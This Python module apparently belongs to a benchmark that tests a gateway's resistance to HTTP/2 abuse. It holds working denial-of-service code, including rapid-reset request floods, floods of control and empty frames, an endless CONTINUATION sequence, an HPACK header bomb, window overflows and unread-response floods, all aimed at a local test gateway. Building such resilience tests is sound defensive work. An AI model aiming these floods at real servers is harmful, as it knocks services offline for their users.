"""Attacks over HTTP/2: floods of requests, of requests that are reset, and of frames that bring nothing; header blocks
without an end, or that grow when they are read; responses that are not read."""

import ssl
from collections.abc import Callable, Iterator
from socket import socket
from typing import NoReturn, Protocol

from benchmarks.http_attackers import Attack, Count

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUESTS = 3000
"""Requests, or other frames, that are sent over one connection at once."""

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


class Place(Protocol):
    """The gateway, as `benchmarks.attackers` knows it."""

    def address(self, scheme: str) -> tuple[str, int]:
        """Return the address of the listener of a scheme."""

    def context(self) -> ssl.SSLContext:
        """Return what trusts the gateway's certificate."""


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """Return a frame (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(path: bytes) -> bytes:
    """Return the header block of a `GET` (RFC 7541, 6)."""
    fields = (0x04, path), (0x01, b"127.0.0.1")
    return b"\x82\x87" + b"".join(bytes([name, len(value)]) + value for name, value in fields)


def of_each(unit: Callable[[int], bytes]) -> bytes:
    """Return a unit for each of many requests."""
    return b"".join(map(unit, range(1, 2 * REQUESTS, 2)))


def floods() -> Iterator[tuple[str, bytes]]:
    """Yield what is sent over each connection, behind what the table calls it."""
    asked, whole = head(b"/healthz"), END_HEADERS | END_STREAM
    begun = frame(HEADERS, asked, END_HEADERS, 1)
    bomb = bytes([0x40, 1]) + b"a" + bytes([0x7F, 0xA1, 0x1E]) + b"b" * 4000 + b"\xbe" * 8000
    yield "requests without a token", of_each(lambda stream: frame(HEADERS, asked, whole, stream))
    yield (
        "requests that are reset",
        of_each(lambda stream: frame(HEADERS, asked, whole, stream) + frame(RST_STREAM, bytes(4), 0, stream)),
    )
    yield "SETTINGS", frame(SETTINGS) * REQUESTS
    yield (
        "SETTINGS that are not known",
        b"".join(
            frame(SETTINGS, b"".join((100 + 16 * n + each).to_bytes(2, "big") + bytes(4) for each in range(16)))
            for n in range(1000)
        ),
    )
    yield "PING", frame(PING, bytes(8)) * REQUESTS
    yield "PRIORITY", frame(PRIORITY, bytes(5), 0, 1) * REQUESTS
    yield "WINDOW_UPDATE", begun + frame(WINDOW_UPDATE, b"\0\0\0\1", 0, 1) * REQUESTS
    yield "DATA of no byte", begun + frame(DATA, b"", 0, 1) * REQUESTS
    yield "DATA of a byte", begun + frame(DATA, b"x", 0, 1) * REQUESTS
    yield "CONTINUATION", frame(HEADERS, asked, 0, 1) + frame(CONTINUATION, b"", 0, 1) * REQUESTS
    yield "headers that grow when they are read", frame(HEADERS, bomb, whole, 1)
    yield (
        "windows that overflow",
        of_each(
            lambda stream: (
                frame(HEADERS, asked, END_HEADERS, stream) + frame(WINDOW_UPDATE, b"\x7f\xff\xff\xff", 0, stream)
            )
        ),
    )


def flood(place: Place, data: bytes, ready: Callable[[], None]) -> Attack:
    """Send bytes over one connection after the other, each until the gateway closes it."""

    def attack(count: Count) -> NoReturn:
        ready()
        while True:
            try:
                with connect(place) as sock:
                    sock.sendall(PREFACE + frame(SETTINGS) + data)
                    while sock.recv(1 << 16):
                        pass
            except OSError:
                pass
            count.done += 1

    return attack


def ignore(place: Place, ready: Callable[[], None]) -> Attack:
    """Ask for files of the page again and again, and read nothing."""
    # A window so large that nothing else bounds what is sent.
    begun = PREFACE + frame(SETTINGS, b"\0\4\x7f\xff\xff\xff") + frame(WINDOW_UPDATE, b"\x7f\xff\0\0")

    def attack(count: Count) -> NoReturn:
        ready()
        while True:
            try:
                with connect(place) as sock:
                    sock.sendall(begun)
                    for stream in range(1, 2 * REQUESTS, 2):
                        sock.sendall(frame(HEADERS, head(b"/"), END_HEADERS | END_STREAM, stream))
                        count.done += 1
            except OSError:
                pass

    return attack


def connect(place: Place) -> ssl.SSLSocket:
    """Open a connection whose TLS has chosen HTTP/2."""
    sock, context = socket(), place.context()
    context.set_alpn_protocols(["h2"])
    sock.connect(place.address("wss"))
    return context.wrap_socket(sock, server_hostname="127.0.0.1")


def attacks(place: Place, ready: Callable[[], None]) -> dict[str, Attack]:
    """Return all of them, by what the table calls them."""
    found = {f"HTTP/2, {name}": flood(place, data, ready) for name, data in floods()}
    return {**found, "HTTP/2, responses that are not read": ignore(place, ready)}
